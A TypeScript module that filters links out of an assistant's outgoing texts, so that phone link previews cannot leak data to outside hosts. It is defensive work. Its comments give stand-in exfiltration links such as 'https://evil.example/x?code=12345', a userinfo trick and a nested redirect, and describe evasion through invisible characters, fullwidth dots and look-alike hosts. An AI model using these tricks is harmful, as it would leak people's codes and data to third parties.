import { domainToUnicode } from 'node:url';
import type { TLanguage } from '@app/contract/messages';
import { say } from './texts';
import { TOP_LEVEL_DOMAINS } from './top-level-domains';

/**
 * The link filter on every text the assistant sends or shows (issue 29, finding 5; decision
 * 300). A phone fetches a link's preview by itself, so a link in a text is data leaving with no
 * YES: `https://evil.example/x?code=12345` hands the code to evil.example the moment the text
 * arrives, whatever the person answers. A link is kept only when the person texted it to us, when
 * it is on our own PUBLIC_URL, or when its host is a known meeting or provider host (matched on
 * the parsed host, never on a substring). Any other link or bare domain keeps only its host, made
 * unclickable (`evil[.]example`): its path, query, port and user part are dropped, and a note at
 * the end says so. Markdown images go; Markdown links become their words and the filtered link.
 * Pure: no I/O, the same answer for the same input.
 */

/** Hosts kept exactly: the meeting and provider pages a reminder or an answer may point to. */
export const KNOWN_HOSTS: ReadonlySet<string> = new Set([
  'zoom.us',
  'meet.google.com',
  'calendar.google.com',
  'mail.google.com',
  'teams.microsoft.com',
  'teams.live.com',
  'outlook.office.com',
  'outlook.office365.com',
  'outlook.live.com',
  'www.icloud.com',
  'facetime.apple.com',
  'whereby.com',
  'meet.jit.si',
]);
/**
 * Hosts kept with any name under them: Zoom's and Webex's meeting links carry a data centre's or
 * a customer's name (`us02web.zoom.us`, `acme.webex.com`), and every name under these is served
 * by Zoom or Cisco, so a preview fetched there reaches no one else.
 */
export const KNOWN_HOST_FAMILIES: readonly string[] = ['zoom.us', 'zoomgov.com', 'webex.com'];

/** Whether a parsed host (lower case, ASCII) is a known meeting or provider host. */
export function isKnownHost(hostname: string): boolean {
  const host = hostname.toLowerCase();
  return KNOWN_HOSTS.has(host) || KNOWN_HOST_FAMILIES.some((family) => host.endsWith(`.${family}`));
}

export interface LinkPolicy {
  /** The person's own texts (or the links in them, `linksIn`): a link in one is kept exactly. */
  personUrls: readonly string[];
  /** Our own site: any link on its origin is kept. */
  publicUrl: string;
  language: TLanguage;
  /**
   * Where the note goes: after the text (default), or nowhere, for a caller that places it
   * itself (before an approval request, whose end must stay its end).
   */
  noteAt?: 'end' | 'none';
}

/** One link or bare domain found in a text. */
export interface FoundLink {
  start: number;
  end: number;
  /** The text as written. */
  raw: string;
  /** Lower-case scheme (`https`), or null for a bare `evil.example/x`. */
  scheme: string | null;
  /** Whether a user part (`zoom.us@`) came before the host. */
  userinfo: boolean;
  /** The host as a browser resolves it (lower case, ASCII, dots normalised), for display. */
  hostname: string;
  /** Host and port as a browser resolves them (`evil.example:8080`); null when they do not parse. */
  host: string | null;
  /** Host, port, path, query and fragment as one comparable key; null when they do not parse. */
  key: string | null;
}

/**
 * Characters that show nothing: zero-width spaces and joiners, the soft hyphen, direction marks.
 * They split a link so that an eye (and a naive filter) misses it while the phone may join it
 * back; the filter takes them out of everything it passes. A zero-width joiner beside an emoji
 * (a family, a flag) is kept: it draws one picture.
 */
const INVISIBLE =
  /\u034F|[\u00AD\u061C\u115F\u1160\u17B4\u17B5\u180E\u200B\u200C\u200E\u200F\u202A-\u202E\u2060-\u2064\u2066-\u206F\uFEFF]/g;
const STRAY_JOINER = /(?<!\p{Extended_Pictographic}\uFE0F?)\u200D(?!\p{Extended_Pictographic})/gu;

export function withoutInvisible(text: string): string {
  return text.replace(INVISIBLE, '').replace(STRAY_JOINER, '');
}

/**
 * The text as a browser reads a link in it, one UTF-16 unit for one so positions stay: the
 * Chinese and other full stops (`。．｡․﹒`) become `.`, slash look-alikes (`／∕⁄`) `/`, and the
 * fullwidth letters, digits and signs their ASCII selves (`ｅｖｉｌ．ｃｏｍ` is evil.com to a browser).
 */
function detectionView(text: string): string {
  let view = '';
  for (let i = 0; i < text.length; i++) {
    const code = text.charCodeAt(i);
    if (code === 0x3002 || code === 0xff61 || code === 0x2024 || code === 0xfe52) view += '.';
    else if (code === 0x2215 || code === 0x2044) view += '/';
    else if (code >= 0xff01 && code <= 0xff5e) view += String.fromCharCode(code - 0xfee0);
    else view += text[i];
  }
  return view;
}

const CJK = String.raw`\p{sc=Han}\p{sc=Hiragana}\p{sc=Katakana}\p{sc=Hangul}\u3000-\u303F`;
/**
 * A letter, digit or mark of a domain label. Chinese, Japanese and Korean characters are not:
 * they have no spaces between words, so `请见meet.google.com` is a word and a link (CJK_HOST
 * finds hosts written in them).
 */
const W = String.raw`(?:(?![${CJK}])[\p{L}\p{N}\p{M}])`;
/**
 * What follows a host in a link: anything up to a space, a quote, an angle bracket or Chinese,
 * Japanese or Korean text (`https://evil.example/x。谢谢`: the link ends at the full stop).
 */
const REST = String.raw`[^\s<>"'\x60${CJK}]*`;

const SCHEME_URL = new RegExp(
  String.raw`(?<!${W}|[+.\-])([a-z][a-z0-9+.\-]{0,30}):[/\\]{2,}(${REST})`,
  'giu',
);
const BARE_HOST = new RegExp(
  String.raw`(?<!${W}|[\-_])(${W}(?:${W}|-)*(?:\.${W}(?:${W}|-)*)+)(:\d{1,5})?([/?#\\]${REST})?`,
  'gu',
);
const CJK_HOST = new RegExp(
  String.raw`(?<![\p{L}\p{N}\p{M}\-])((?:[\p{L}\p{N}\p{M}\-]+\.)+)([${CJK}]+)(:\d{1,5})?([/?#\\]${REST})?`,
  'gu',
);
const MAYBE_LINK = /\.[^\s.]|:[/\\]{2}/;
const TRAILING = /^[.,;:!?'")\]}>»」』】〉》、]$/u;
const CJK_LABEL = new RegExp(`^[${CJK}0-9-]+$`, 'u');
const IPV4 = /^(?:(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.){3}(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)$/;

/** The top-level domains written in Chinese, Japanese or Korean (`中国`, `公司`, `コム`...). */
const CJK_TOP_LEVEL: ReadonlySet<string> = new Set(
  [...TOP_LEVEL_DOMAINS]
    .filter((tld) => tld.startsWith('xn--'))
    .map((tld) => domainToUnicode(tld))
    .filter((tld) => new RegExp(`^[${CJK}]+$`, 'u').test(tld)),
);

function isTopLevel(label: string): boolean {
  const lower = label.toLowerCase();
  if (/^[a-z]+$/.test(lower) || lower.startsWith('xn--')) return TOP_LEVEL_DOMAINS.has(lower);
  // A Unicode name: as the browser would write it (`рф` is xn--p1ai).
  const ascii = parse(null, `a.${label}`)?.hostname.split('.').at(-1);
  return ascii !== undefined && TOP_LEVEL_DOMAINS.has(ascii);
}

/**
 * How a browser resolves a link (IDNA and case, percent-escapes, IPv4 written as one number or
 * in hex, the user part): host and the key of host, port, path, query and fragment.
 */
function parse(scheme: string | null, rest: string): { hostname: string; host: string; key: string } | null {
  try {
    const special = scheme === null || scheme === 'http' || scheme === 'https';
    const url = new URL(`${special ? 'http' : scheme}://${rest}`);
    if (!url.hostname) return null;
    const tail = `${url.pathname === '/' ? '' : url.pathname}${url.search}${url.hash}`;
    return {
      hostname: url.hostname,
      host: url.host,
      key: `${special ? '' : `${scheme}:`}${url.host}${tail}`,
    };
  } catch {
    return null;
  }
}

/**
 * A link without the punctuation after it (`see evil.example/x.`), one character at a time: a
 * closing bracket stays when the link opened it (Wikipedia's `Foo_(film)`).
 */
function trimTrailing(raw: string): string {
  let trimmed = raw;
  while (trimmed && TRAILING.test(trimmed.at(-1)!)) {
    const last = trimmed.at(-1)!;
    if (last === ')' && count(trimmed, '(') >= count(trimmed, ')')) break;
    trimmed = trimmed.slice(0, -1);
  }
  return trimmed;
}
const count = (text: string, char: string) => text.split(char).length - 1;

const overlaps = (found: FoundLink[], start: number, end: number) =>
  found.some((link) => start < link.end && end > link.start);

/** What a host that does not parse shows: its own characters, lower case, without a port. */
const shown = (host: string) => host.toLowerCase().replace(/:\d*$/, '');

/** Every link and bare domain in a text (already without invisible characters), in order. */
export function findLinks(text: string): FoundLink[] {
  const view = detectionView(text);
  // No dot before a name and no scheme: no link (most texts; the scans below cost more).
  if (!MAYBE_LINK.test(view)) return [];
  const found: FoundLink[] = [];
  const add = (link: Omit<FoundLink, 'raw'>) =>
    found.push({ ...link, raw: text.slice(link.start, link.end) });

  for (const match of view.matchAll(SCHEME_URL)) {
    const scheme = match[1]!.toLowerCase();
    const rest = trimTrailing(match[2]!);
    const end = match.index + match[0].length - (match[2]!.length - rest.length);
    const authority = /^[^/?#\\]*/.exec(rest)![0];
    const parsed = parse(scheme, rest);
    add({
      start: match.index,
      end,
      scheme,
      userinfo: authority.includes('@'),
      hostname: parsed?.hostname ?? shown(authority.slice(authority.lastIndexOf('@') + 1)),
      host: parsed?.host ?? null,
      key: parsed?.key ?? null,
    });
  }
  const schemed = [...found];

  for (const match of view.matchAll(BARE_HOST)) {
    const start = match.index;
    const name = match[1]!;
    if (!IPV4.test(name) && !isTopLevel(name.split('.').at(-1)!)) continue;
    const afterName = start + name.length;
    // The name before an address's @ is no link (`ada.lovelace@example.com`)...
    if (view[afterName] === '@') continue;
    const port = match[2] ?? '';
    const path = match[3] ? trimTrailing(match[3]) : '';
    // ...and the domain after it is an address, kept, unless a port or a path follows: a phone
    // reads that as a link with a user part (`zoom.us@evil.example/x`).
    const userinfo = view[start - 1] === '@';
    if (userinfo && !port && !path) continue;
    const end = afterName + port.length + path.length;
    if (overlaps(schemed, start, end)) continue;
    const parsed = parse(null, `${name}${port}${path}`);
    add({
      start,
      end,
      scheme: null,
      userinfo,
      hostname: parsed?.hostname ?? shown(name),
      host: parsed?.host ?? null,
      key: parsed?.key ?? null,
    });
  }

  for (const match of view.matchAll(CJK_HOST)) {
    const start = match.index;
    // A full stop in Chinese prose is no dot of a domain: only `.` and `．` separate here.
    if (/[。｡]/.test(text.slice(start, start + match[1]!.length)) || !CJK_TOP_LEVEL.has(match[2]!)) continue;
    const name = `${match[1]}${match[2]}`;
    const port = match[3] ?? '';
    const path = match[4] ? trimTrailing(match[4]) : '';
    const end = start + name.length + port.length + path.length;
    if (overlaps(found, start, end)) continue;
    const parsed = parse(null, `${name}${port}${path}`);
    add({
      start,
      end,
      scheme: null,
      userinfo: false,
      hostname: parsed?.hostname ?? shown(name),
      host: parsed?.host ?? null,
      key: parsed?.key ?? null,
    });
  }
  return found.sort((a, b) => a.start - b.start);
}

/** The links of a person's own texts, in the form `LinkPolicy.personUrls` takes. */
export function linksIn(texts: readonly string[]): string[] {
  return texts.flatMap((text) => findLinks(withoutInvisible(text)).map((link) => link.raw));
}

function originOf(url: string): { scheme: string; host: string } | null {
  try {
    const parsed = new URL(url);
    return { scheme: parsed.protocol.slice(0, -1), host: parsed.host };
  } catch {
    return null;
  }
}

/** Whether a link may stay clickable under the policy. */
function kept(
  link: FoundLink,
  personKeys: ReadonlySet<string>,
  ours: { scheme: string; host: string } | null,
) {
  if (link.key && personKeys.has(link.key)) return true;
  if (link.userinfo || !link.host) return false;
  if (link.scheme !== null && link.scheme !== 'http' && link.scheme !== 'https') return false;
  if (ours && link.host === ours.host && (link.scheme === null || link.scheme === ours.scheme)) return true;
  // A link on a known host that carries another link (`/url?q=https://evil.example`) may send a
  // preview there by a redirect: it is judged as that other link would be, so not kept.
  const afterScheme = link.scheme
    ? link.raw.slice(link.raw.indexOf(':') + 1).replace(/^[/\\]+/, '')
    : link.raw;
  if (NESTED_LINK.test(afterScheme)) return false;
  return isKnownHost(link.hostname);
}
const NESTED_LINK = /:[/\\]{2}|%3a(?:%2f|\/){2}/i;

/**
 * `evil.example` as no phone links it: `evil[.]example` (an IPv6 address loses its brackets). A
 * name in Chinese, Japanese or Korean is shown in its own letters; any other Unicode name in the
 * browser's ASCII form, so a look-alike (`zооm.us` in Cyrillic) shows what it is: `xn--zm-fmca[.]us`.
 */
export function defang(hostname: string): string {
  const unicode = domainToUnicode(hostname);
  const readable = unicode?.split('.').every((label) => /^[a-z0-9-]*$/.test(label) || CJK_LABEL.test(label));
  return (readable ? unicode : hostname).replace(/^\[|\]$/g, '').replace(/[.。．｡․﹒]/g, '[.]');
}

/** `![alt](url)`: the picture goes, whatever its host; its words stay. */
const MARKDOWN_IMAGE = /!\[([^[\]\n]*)\]\(\s*<?[^()[\]\s<>]*>?(?:\s+"[^"\n]*")?\s*\)/g;
/** `[words](url)`: the words, and the link after them for the filter to judge. */
const MARKDOWN_LINK = /\[([^[\]\n]+)\]\(\s*<?([^()[\]\s<>]+)>?(?:\s+"[^"\n]*")?\s*\)/g;

/**
 * The text with only the links it may keep: the others reduced to their host, unclickable, and a
 * note at the end when anything was taken out (`removed` counts what was).
 */
export function filterLinks(text: string, policy: LinkPolicy): { text: string; removed: number } {
  let removed = 0;
  const plain = withoutInvisible(text)
    .replace(MARKDOWN_IMAGE, (_image, alt: string) => {
      removed++;
      return alt.trim();
    })
    .replace(MARKDOWN_LINK, (_link, words: string, url: string) =>
      words.trim() === url ? url : `${words} (${url})`,
    );
  const personKeys = new Set(
    policy.personUrls
      .flatMap((written) => findLinks(withoutInvisible(written)))
      .map((link) => link.key)
      .filter((key): key is string => key !== null),
  );
  const ours = originOf(policy.publicUrl);
  let out = '';
  let at = 0;
  for (const link of findLinks(plain)) {
    if (kept(link, personKeys, ours)) continue;
    removed++;
    out += plain.slice(at, link.start) + defang(link.hostname);
    at = link.end;
  }
  out += plain.slice(at);
  if (removed === 0 || policy.noteAt === 'none') return { text: out, removed };
  const note = say(policy.language, 'linksRemoved');
  return { text: out.trim() ? `${out.trimEnd()} ${note}` : note, removed };
}
